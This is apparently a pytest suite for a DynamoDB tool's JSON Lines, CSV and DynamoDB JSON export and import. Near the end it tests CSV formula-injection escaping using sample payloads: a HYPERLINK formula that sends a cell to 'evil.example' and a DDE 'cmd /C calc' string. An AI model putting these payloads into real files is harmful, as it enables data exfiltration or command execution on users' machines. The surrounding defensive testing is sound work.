"""Export and import file formats: JSON Lines, CSV and DynamoDB JSON, every type, exact numbers, stable bytes."""

from __future__ import annotations

import csv
import gzip
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from boto3.dynamodb.types import TypeDeserializer
from hypothesis import given, settings
from hypothesis import strategies as st

from dynamodbmanager.datatools.formats import (
    FORMULA_TRIGGERS,
    csv_cell,
    dump_item,
    dump_typed_item,
    format_of,
    input_format_of,
    open_output,
    read_csv,
    read_dynamodb_json,
    read_jsonl,
    read_records,
    unescape_formula,
)
from dynamodbmanager.datatools.import_ import check_item, check_typed_item
from dynamodbmanager.datatools.sources import (
    UnreadableInput,
    detect_format,
    display_names,
    input_files,
    open_input,
)
from dynamodbmanager.datatools.typed import LossyValue, canonical_item, describe_key
from dynamodbmanager.jsoncodec import loads
from dynamodbmanager.schema import KeyAttribute, TableShape
from dynamodbmanager.store.attributes import deserialize, serialize
from dynamodbmanager.store.keys import Keys
from tests.strategies import items as item_strategy
from tests.strategies import names, numbers, text, values


def test_format_comes_from_the_name_unless_given() -> None:
    assert format_of("a.csv") == "csv"
    assert format_of("A.CSV") == "csv"
    assert format_of("a.jsonl") == "jsonl"
    assert format_of("-") == "jsonl"
    assert format_of("a.csv", "jsonl") == "jsonl"


def test_a_line_has_id_first_sorted_attributes_and_exact_numbers() -> None:
    item = {"z": {"b": 1, "a": 2}, "id": "x", "n": Decimal("12345678901234567890123456789012345678")}
    assert dump_item(item) == '{"id":"x","n":12345678901234567890123456789012345678,"z":{"a":2,"b":1}}'


def test_huge_integers_keep_their_exponent_so_they_read_back_into_dynamodb() -> None:
    line = dump_item({"id": "x", "n": Decimal("1E+100"), "m": Decimal("-2.5E+40")})
    assert line == '{"id":"x","m":-2.5E+40,"n":1E+100}'
    assert check_item(loads(line))["n"] == {"N": "1E+100"}


def test_unicode_line_separators_are_escaped_so_an_item_is_one_line() -> None:
    line = dump_item({"id": "a\u2028b", "t": "\x85\u2029"})
    assert line == '{"id":"a\\u2028b","t":"\\u0085\\u2029"}'
    assert len(line.splitlines()) == 1


@settings(deadline=None)  # a loaded machine must not fail a test on time
@given(item_strategy())
def test_the_same_item_in_any_attribute_order_gives_the_same_line(item: dict[str, Any]) -> None:
    reordered = dict(reversed(list(item.items())))
    assert dump_item(reordered) == dump_item(item)


def test_json_lines_are_numbered_and_bad_ones_say_why() -> None:
    data = b'{"id": "a"}\n\nnot json\n[1]\n{"id": "b", "n": 1.5}\n'
    records = list(read_jsonl(io.BytesIO(data)))
    assert [r.line for r in records] == [1, 3, 4, 5]
    assert records[0].item == {"id": "a"}
    assert records[1].item is None
    assert records[1].error is not None
    assert "not valid JSON" in records[1].error
    assert records[2].error == "The line is not a JSON object."
    assert records[3].item == {"id": "b", "n": Decimal("1.5")}
    assert records[-1].offset == len(data)


def test_reading_skips_lines_up_to_a_checkpoint() -> None:
    data = b"".join(b'{"id": "%d"}\n' % n for n in range(1, 11))
    assert [r.line for r in read_jsonl(io.BytesIO(data), skip_to=7)] == [8, 9, 10]


def test_csv_rows_are_numbered_and_cells_typed() -> None:
    data = b'id,n,s,m,gone\n1,42,hello,"{""a"":[true,null]}",\n2,"""007""",,null,x\nshort\n'
    records = list(read_csv(io.BytesIO(data)))
    assert [r.line for r in records] == [2, 3, 4]
    assert records[0].item == {"id": "1", "n": 42, "s": "hello", "m": {"a": [True, None]}}
    assert records[1].item == {"id": "2", "n": "007", "m": None, "gone": "x"}
    assert records[2].error == "The row has 1 cells; the header has 5."


def test_a_csv_header_with_a_repeated_column_is_refused() -> None:
    records = list(read_csv(io.BytesIO(b"id,a,a\n1,2,3\n")))
    assert len(records) == 1
    assert records[0].error is not None
    assert "repeated" in records[0].error


@settings(deadline=None)  # a loaded machine must not fail a test on time
@given(values)
def test_every_value_reads_back_from_its_csv_cell(value: Any) -> None:
    written = csv_cell(value)
    header = "id,v\n"
    row = io.StringIO()
    csv.writer(row, lineterminator="\r\n").writerow(["x", written])
    records = list(read_csv(io.BytesIO((header + row.getvalue()).encode("utf-8", errors="surrogateescape"))))
    assert records[0].item == {"id": "x", "v": value}


def test_ids_and_values_with_line_breaks_survive_csv(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    writer = open_output(str(target), "csv")
    item = {"id": "\rline\nbreaks\r\n", "text": "a\rb", "n": {"k\n": "v\r"}}
    writer.write(serialize(item))
    writer.close()
    assert [r.item for r in read_csv(io.BytesIO(target.read_bytes()))] == [item]


def test_strings_that_look_like_json_are_quoted_in_csv() -> None:
    assert csv_cell("hello") == "hello"
    assert csv_cell("123") == '"123"'
    assert csv_cell("true") == '"true"'
    assert csv_cell("") == '""'
    assert csv_cell(" padded ") == '" padded "'
    assert csv_cell(Decimal("1E+100")) == "1E+100"


def test_a_file_gets_its_name_only_when_complete(tmp_path: Path) -> None:
    target = tmp_path / "out.jsonl"
    writer = open_output(str(target), "jsonl")
    writer.write({"id": {"S": "a"}})
    assert not target.exists()
    assert (tmp_path / "out.jsonl.partial").exists()
    writer.close()
    assert target.read_text() == '{"id":"a"}\n'
    assert not (tmp_path / "out.jsonl.partial").exists()


def test_an_aborted_export_leaves_only_the_partial_file(tmp_path: Path) -> None:
    target = tmp_path / "out.jsonl"
    writer = open_output(str(target), "jsonl")
    writer.write({"id": {"S": "a"}})
    writer.abort()
    assert not target.exists()
    assert (tmp_path / "out.jsonl.partial").read_text() == '{"id":"a"}\n'


def test_csv_columns_are_the_union_of_all_items_id_first(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    writer = open_output(str(target), "csv")
    writer.write(serialize({"id": "1", "b": 2}))
    writer.write(serialize({"id": "2", "a": {"x": 1}}))
    writer.close()
    records = list(read_csv(io.BytesIO(target.read_bytes())))
    assert [r.item for r in records] == [{"id": "1", "b": 2}, {"id": "2", "a": {"x": 1}}]
    assert target.read_bytes() == b'id,a,b\r\n1,,2\r\n2,"{""x"":1}",\r\n'
    assert list(tmp_path.iterdir()) == [target]


# DynamoDB JSON: every type, written as DynamoDB's export to S3 writes it, and read back exactly.

typed_scalars: st.SearchStrategy[dict[str, Any]] = st.one_of(
    text.map(lambda s: {"S": s}),
    numbers.map(lambda n: {"N": str(n)}),
    st.binary(max_size=8).map(lambda b: {"B": b}),
    st.booleans().map(lambda b: {"BOOL": b}),
    st.just({"NULL": True}),
    st.lists(text, min_size=1, max_size=4, unique=True).map(lambda m: {"SS": m}),
    st.lists(numbers, min_size=1, max_size=4, unique_by=Decimal).map(lambda m: {"NS": [str(n) for n in m]}),
    st.lists(st.binary(max_size=6), min_size=1, max_size=4, unique=True).map(lambda m: {"BS": m}),
)
typed_values: st.SearchStrategy[dict[str, Any]] = st.recursive(
    typed_scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=3).map(lambda m: {"L": m}),
        st.dictionaries(names, children, max_size=3).map(lambda m: {"M": m}),
    ),
    max_leaves=10,
)
typed_items = st.builds(
    lambda key, attributes: {"id": {"S": key}, **attributes},
    text.filter(bool),
    st.dictionaries(names.filter(lambda n: n != "id"), typed_values, max_size=5),
)

#: One item holding all ten types, nested in a map and in a list too, and a 41-digit number from DynamoDB.
ALL_TYPES: dict[str, Any] = {
    "id": {"S": "every-type"},
    "s": {"S": "text"},
    "n": {"N": "1" + "0" * 40},
    "b": {"B": b"\x00\x01\xff"},
    "t": {"BOOL": True},
    "z": {"NULL": True},
    "ss": {"SS": ["b", "a"]},
    "ns": {"NS": ["10", "-2.5", "1E+100"]},
    "bs": {"BS": [b"\x02", b"\x01"]},
    "l": {"L": [{"S": "x"}, {"N": "1"}, {"B": b"\x07"}, {"SS": ["y"]}, {"L": [{"BS": [b"\x08"]}]}]},
    "m": {"M": {"inner": {"M": {"ns": {"NS": ["3"]}, "b": {"B": b""}}}, "f": {"BOOL": False}, "n": {"NULL": True}}},
}


def read_typed(data: bytes) -> list[dict[str, Any]]:
    """Every item of a DynamoDB JSON file, checked and typed as the importer makes it."""
    return [check_typed_item(record.item) for record in read_dynamodb_json(io.BytesIO(data)) if record.item]


def reference(typed: dict[str, Any]) -> dict[str, Any]:
    """The item as boto3's own deserializer gives it: sets as sets, binary as Binary, numbers as Decimal."""
    deserializer = TypeDeserializer()
    return {name: deserializer.deserialize(value) for name, value in typed.items()}


def test_a_dynamodb_json_line_is_an_item_with_the_key_first_sorted_and_binary_in_base64() -> None:
    item: dict[str, dict[str, Any]] = {
        "z": {"BS": [b"\x01", b"\x00"]},
        "id": {"S": "a"},
        "m": {"M": {"y": {"NS": ["10", "9"]}, "x": {"B": b"\x00"}}},
    }
    assert dump_typed_item(item) == (
        '{"Item":{"id":{"S":"a"},"m":{"M":{"x":{"B":"AA=="},"y":{"NS":["9","10"]}}},"z":{"BS":["AA==","AQ=="]}}}'
    )
    # The API's base64 text gives the same line as a scan's bytes.
    assert dump_typed_item({"id": {"S": "a"}, "b": {"B": "AAE="}}) == dump_typed_item(
        {"id": {"S": "a"}, "b": {"B": b"\0\1"}}
    )


def test_every_type_reads_back_from_dynamodb_json_exactly(tmp_path: Path) -> None:
    target = tmp_path / "out.json"
    writer = open_output(str(target), "dynamodb-json")
    writer.write(ALL_TYPES)
    writer.close()
    (back,) = read_typed(target.read_bytes())
    assert deserialize(back) == deserialize(ALL_TYPES)
    # boto3 itself refuses 41 digits (it traps rounding); every other value it reads back the same.
    assert reference({**back, "n": {"N": "1"}}) == reference({**ALL_TYPES, "n": {"N": "1"}})
    assert {name: next(iter(value)) for name, value in back.items()} == {
        name: next(iter(value)) for name, value in ALL_TYPES.items()
    }
    # The 41 digits DynamoDB hands out are written as they are, and read back as the same number.
    assert '"n":{"N":"10000000000000000000000000000000000000000"}' in target.read_text()
    assert Decimal(back["n"]["N"]) == Decimal(10) ** 40


@settings(deadline=None, max_examples=60)
@given(typed_items)
def test_any_typed_item_reads_back_from_its_dynamodb_json_line(item: dict[str, Any]) -> None:
    (back,) = read_typed(dump_typed_item(item).encode("utf-8") + b"\n")
    assert canonical_item(back) == canonical_item(item)
    assert reference(back) == reference(item)


def test_dynamodb_json_lines_that_are_not_items_say_why() -> None:
    data = b'{"Item": {"id": {"S": "a"}}}\n\n{"id": {"S": "b"}}\n{"Item": 1}\nnope\n'
    records = list(read_dynamodb_json(io.BytesIO(data)))
    assert [(r.line, r.typed) for r in records] == [(1, True), (3, True), (4, True), (5, False)]
    assert records[0].item == {"id": {"S": "a"}}
    assert (
        records[1].error
        == records[2].error
        == ('The line is not a DynamoDB JSON item such as {"Item": {"id": {"S": "a"}}}.')
    )
    assert records[3].error is not None
    assert "not valid JSON" in records[3].error


def test_the_format_of_an_input_comes_from_its_content() -> None:
    typed, lines = detect_format(iter([b"\n", b'{"Item": {"id": {"S": "a"}}}\n', b"rest\n"]))
    assert typed == "dynamodb-json"
    assert list(lines) == [b"\n", b'{"Item": {"id": {"S": "a"}}}\n', b"rest\n"]
    assert detect_format(iter([b'{"id": "a", "Item": {}}\n']))[0] == "jsonl"
    assert detect_format(iter([b"not json\n"]))[0] == "jsonl"
    assert detect_format(iter([b"not json\n", b"[1]\n", b'{"Item": {}}\n']))[0] == "dynamodb-json"
    assert detect_format(iter([]))[0] == "jsonl"
    assert input_format_of("x.csv.gz") == "csv"
    assert input_format_of("x.json.gz") is None
    assert input_format_of("x.csv", "dynamodb-json") == "dynamodb-json"


def test_a_gzip_file_is_read_whatever_its_name(tmp_path: Path) -> None:
    path = tmp_path / "data.bin"
    path.write_bytes(gzip.compress(b'{"Item": {"id": {"S": "a"}}}\n'))
    with open_input(path) as (raw, lines):
        assert list(lines) == [b'{"Item": {"id": {"S": "a"}}}\n']
        assert raw.tell() == path.stat().st_size
    damaged = tmp_path / "damaged.json.gz"
    damaged.write_bytes(gzip.compress(b'{"Item": {"id": {"S": "a"}}}\n' * 100)[:-12])
    with open_input(damaged) as (_, lines), pytest.raises(UnreadableInput, match="not a complete gzip file"):
        list(lines)


def test_a_directory_is_read_as_dynamodb_exports_it(tmp_path: Path) -> None:
    export = tmp_path / "AWSDynamoDBexport" / "01234-abcd"
    (export / "data").mkdir(parents=True)
    for name in ("manifest-summary.json", "manifest-files.json", "data/b.json.gz", "data/a.json.gz", "data/c.json"):
        (export / name).write_bytes(b"")
    (export / "data" / "notes.txt").write_bytes(b"")
    (export / "data" / "c.json.import-checkpoint.json").write_bytes(b"")
    files = input_files(tmp_path, ignored=(".import-checkpoint.json",))
    assert display_names(tmp_path, files) == [
        "AWSDynamoDBexport/01234-abcd/data/a.json.gz",
        "AWSDynamoDBexport/01234-abcd/data/b.json.gz",
        "AWSDynamoDBexport/01234-abcd/data/c.json",
    ]
    single = export / "data" / "c.json"
    assert input_files(single) == [single]
    assert display_names(single, [single]) == ["c.json"]


# The plain formats have no sets and no binary: an export stops rather than change a type.

LOSSY = [
    ("b", {"B": b"\x01"}, "binary (B)"),
    ("ss", {"SS": ["a"]}, "a string set (SS)"),
    ("ns", {"NS": ["1"]}, "a number set (NS)"),
    ("bs", {"BS": [b"\x01"]}, "a binary set (BS)"),
    ("m.deep[1]", {"M": {"deep": {"L": [{"S": "ok"}, {"SS": ["x"]}]}}}, "a string set (SS)"),
]


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
@pytest.mark.parametrize(("attribute", "value", "what"), LOSSY, ids=[case[0] for case in LOSSY])
def test_a_plain_export_refuses_what_it_cannot_keep(
    tmp_path: Path, fmt: str, attribute: str, value: dict[str, Any], what: str
) -> None:
    name = attribute.split(".", maxsplit=1)[0]
    writer = open_output(str(tmp_path / f"out.{fmt}"), fmt)
    writer.write({"id": {"S": "fine"}, "n": {"N": "1"}})
    with pytest.raises(LossyValue) as refused:
        writer.write({"id": {"S": "k-1"}, name: value})
    writer.abort()
    message = str(refused.value)
    assert f"item id 'k-1': attribute '{attribute}' is {what}, which {fmt} cannot keep" in message
    assert "--format dynamodb-json" in message
    assert "--allow-lossy" in message
    assert (refused.value.key, refused.value.attribute) == ("id 'k-1'", attribute)


def test_allow_lossy_writes_sets_as_sorted_lists_and_binary_as_base64(tmp_path: Path) -> None:
    target = tmp_path / "out.jsonl"
    writer = open_output(str(target), "jsonl", allow_lossy=True)
    writer.write({**ALL_TYPES, "l": {"L": []}, "m": {"M": {}}})
    writer.close()
    assert writer.lossy == 4
    assert target.read_text() == (
        '{"id":"every-type","b":"AAH/","bs":["AQ==","Ag=="],"l":[],"m":{},'
        '"n":10000000000000000000000000000000000000000,"ns":[-2.5,10,1E+100],"s":"text","ss":["a","b"],"t":true,'
        '"z":null}\n'
    )


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_numbers_from_dynamodb_round_trip_exactly_in_the_plain_formats(tmp_path: Path, fmt: str) -> None:
    numbers_in = ["1" + "0" * 40, "1E+40", "-0.000000000000000000000000000000000000012345", "9.9999E+125", "1E-130"]
    item = {"id": {"S": "n"}, **{f"n{i}": {"N": text} for i, text in enumerate(numbers_in)}}
    target = tmp_path / f"out.{fmt}"
    writer = open_output(str(target), fmt)
    writer.write(item)
    writer.close()
    reader = read_csv if fmt == "csv" else read_jsonl
    (record,) = reader(io.BytesIO(target.read_bytes()))
    assert record.item is not None
    back = check_item(record.item)
    assert {name: Decimal(value["N"]) for name, value in back.items() if name != "id"} == {
        f"n{i}": Decimal(text) for i, text in enumerate(numbers_in)
    }


# Any table design: the table's key leads every line and every CSV row, partition then sort.

#: The single-table design's key (PK, SK strings) and one keyed by a number and binary.
SINGLE_TABLE = TableShape("shop", KeyAttribute("PK", "S"), KeyAttribute("SK", "S"))
READINGS = TableShape("readings", KeyAttribute("sensor", "N"), KeyAttribute("at", "B"))


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "dynamodb-json"])
def test_every_format_puts_the_tables_key_first_then_the_rest_sorted(tmp_path: Path, fmt: str) -> None:
    target = tmp_path / f"out.{fmt}"
    writer = open_output(str(target), fmt, shape=SINGLE_TABLE)
    writer.write(
        {"a": {"N": "1"}, "SK": {"S": "ORDER#1"}, "Z": {"S": "z"}, "PK": {"S": "CUSTOMER#1"}, "id": {"S": "x"}}
    )
    writer.close()
    text = target.read_bytes().decode()
    if fmt == "jsonl":
        assert text == '{"PK":"CUSTOMER#1","SK":"ORDER#1","Z":"z","a":1,"id":"x"}\n'
    elif fmt == "csv":
        assert text == "PK,SK,Z,a,id\r\nCUSTOMER#1,ORDER#1,z,1,x\r\n"
    else:
        assert text == (
            '{"Item":{"PK":{"S":"CUSTOMER#1"},"SK":{"S":"ORDER#1"},"Z":{"S":"z"},"a":{"N":"1"},"id":{"S":"x"}}}\n'
        )


def test_string_key_columns_are_plain_text_and_number_keys_read_back_as_numbers(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    shape = TableShape("t", KeyAttribute("PK", "S"), KeyAttribute("rank", "N"))
    writer = open_output(str(target), "csv", shape=shape)
    writer.write({"PK": {"S": "42"}, "rank": {"N": "7"}, "note": {"S": "123"}})
    writer.close()
    assert target.read_bytes() == b'PK,rank,note\r\n42,7,"""123"""\r\n'
    (record,) = read_records(io.BytesIO(target.read_bytes()), "csv", shape=shape)
    assert record.item == {"PK": "42", "rank": 7, "note": "123"}
    assert check_item(record.item, Keys(shape)) == {"PK": {"S": "42"}, "rank": {"N": "7"}, "note": {"S": "123"}}


def test_an_empty_export_of_a_composite_table_has_its_key_as_the_csv_header(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    open_output(str(target), "csv", shape=SINGLE_TABLE).close()
    assert target.read_bytes() == b"PK,SK\r\n"


def test_a_lossy_value_names_the_item_by_its_whole_key(tmp_path: Path) -> None:
    writer = open_output(str(tmp_path / "out.jsonl"), "jsonl", shape=READINGS)
    with pytest.raises(LossyValue, match=r"^item sensor '12', at 'AAH/': attribute 'at' is binary \(B\)"):
        writer.write({"sensor": {"N": "12"}, "at": {"B": b"\x00\x01\xff"}})
    writer.abort()
    # The API's base64 text names it the same way as a scan's bytes.
    assert describe_key({"sensor": {"N": "12"}, "at": {"B": "AAH/"}}, READINGS.key) == "sensor '12', at 'AAH/'"


def test_number_and_binary_keys_lead_a_dynamodb_json_line() -> None:
    line = dump_typed_item({"v": {"N": "1.5"}, "at": {"B": b"\x00"}, "sensor": {"N": "12"}}, READINGS.key_names)
    assert line == '{"Item":{"sensor":{"N":"12"},"at":{"B":"AA=="},"v":{"N":"1.5"}}}'


# CSV injection: no text cell starts as a spreadsheet formula, and every value still reads back exactly.

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


def csv_file(folder: Path, items: list[dict[str, Any]], *, raw: bool = False) -> bytes:
    """The bytes of a CSV export of plain ``items`` (``raw``: with ``csv_raw``)."""
    target = folder / "out.csv"
    writer = open_output(str(target), "csv", csv_raw=raw)
    for item in items:
        writer.write(serialize(item))
    writer.close()
    return target.read_bytes()


def cells(data: bytes) -> list[str]:
    """Every cell of a CSV file, header included, as a spreadsheet gets it."""
    return [cell for row in csv.reader(io.StringIO(data.decode(), newline="")) for cell in row]


def json_string(text: str) -> str:
    """``text`` as a JSON string literal: the cell of a string that would not read back as plain text."""
    return '"' + text.replace("\t", "\\t").replace("\r", "\\r") + '"'


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_a_text_cell_starting_with_a_formula_trigger_is_written_after_a_quote(tmp_path: Path, trigger: str) -> None:
    item = {"id": trigger + "1+1", "s": trigger + "SUM(A1:A9)", trigger + "col": "x"}
    data = csv_file(tmp_path, [item])
    written = cells(data)
    assert not [cell for cell in written if cell[:1] in FORMULA_TRIGGERS], written
    assert "'" + trigger + "1+1" in written, "a string key cell is quoted"
    assert "'" + trigger + "col" in written, "a column name is quoted"
    if trigger in "\t\r":
        # A value with a leading blank is JSON-quoted already: its cell starts with a double quote.
        assert csv_cell(trigger + "SUM(A1:A9)") == json_string(trigger + "SUM(A1:A9)")
    else:
        assert "'" + trigger + "SUM(A1:A9)" in written
    assert [record.item for record in read_csv(io.BytesIO(data))] == [item]


def test_the_typical_injections_become_text() -> None:
    assert csv_cell('=HYPERLINK("http://evil.example/?"&A1,"click")') == (
        "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
    )
    assert csv_cell("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert csv_cell("+1+1") == "'+1+1"
    assert csv_cell("-1+1") == "'-1+1"
    assert csv_cell("-") == "'-"


def test_a_leading_quote_is_doubled_only_where_it_would_be_taken_for_an_added_one() -> None:
    assert csv_cell("'=x") == "''=x"
    assert csv_cell("'-5") == "''-5"
    assert csv_cell("''") == "'" * 3
    assert csv_cell("'\tx") == "''\tx"
    assert csv_cell("'") == "'"
    assert csv_cell("'quoted'") == "'quoted'"
    assert csv_cell("it's") == "it's"
    assert unescape_formula("'quoted'") == "'quoted'"
    assert unescape_formula("''=x") == "'=x"


def test_numbers_stay_numbers_and_a_negative_one_is_not_quoted(tmp_path: Path) -> None:
    item = {"id": "n", "a": -5, "b": Decimal("-1.5"), "c": Decimal("-1E+100"), "d": 0, "e": "-5", "f": "-1.5E+3"}
    data = csv_file(tmp_path, [item])
    assert data == b'id,a,b,c,d,e,f\r\nn,-5,-1.5,-1E+100,0,"""-5""","""-1.5E+3"""\r\n'
    (record,) = read_csv(io.BytesIO(data))
    assert record.item == item
    assert record.item is not None
    assert check_item(record.item)["a"] == {"N": "-5"}
    assert check_item(record.item)["e"] == {"S": "-5"}


def test_strings_starting_with_a_trigger_or_a_quote_read_back_exactly(tmp_path: Path) -> None:
    starts = [*TRIGGERS, "'", "''", "'=", "'\t", '"', " ", "'a"]
    item = {"id": "k", **{f"v{n}": start + "x" for n, start in enumerate(starts)}, "q": "'", "qq": "''"}
    (record,) = read_csv(io.BytesIO(csv_file(tmp_path, [item])))
    assert record.item == item


def test_csv_raw_writes_and_reads_cells_as_they_are(tmp_path: Path) -> None:
    item = {"id": "=1+1", "f": "@SUM(A1)", "q": "'=x", "n": -5}
    data = csv_file(tmp_path, [item], raw=True)
    assert data == b"id,f,n,q\r\n=1+1,@SUM(A1),-5,'=x\r\n"
    (record,) = read_csv(io.BytesIO(data), raw=True)
    assert record.item == item
    # Read as a quoted export, the one cell that looks quoted loses its quote: a raw file wants --csv-raw.
    (record,) = read_records(io.BytesIO(data), "csv")
    assert record.item == {**item, "q": "=x"}
    (record,) = read_records(io.BytesIO(data), "csv", csv_raw=True)
    assert record.item == item


#: Text made mostly of what starts a formula or escapes one, so the edge cases come up often.
tricky_text = st.text(alphabet=st.sampled_from([*TRIGGERS, "'", '"', " ", "a", "1", "{", "\n"]), min_size=1, max_size=6)


@settings(deadline=None)  # a loaded machine must not fail a test on time
@given(tricky_text, tricky_text, tricky_text)
def test_any_key_value_and_column_name_reads_back_and_never_starts_a_formula(
    tmp_path_factory: pytest.TempPathFactory, key: str, value: str, name: str
) -> None:
    item = {"id": key, name: value} if name != "id" else {"id": key}
    data = csv_file(tmp_path_factory.mktemp("csv"), [item])
    assert not [cell for cell in cells(data) if cell[:1] in FORMULA_TRIGGERS]
    (record,) = read_csv(io.BytesIO(data))
    assert record.item == item
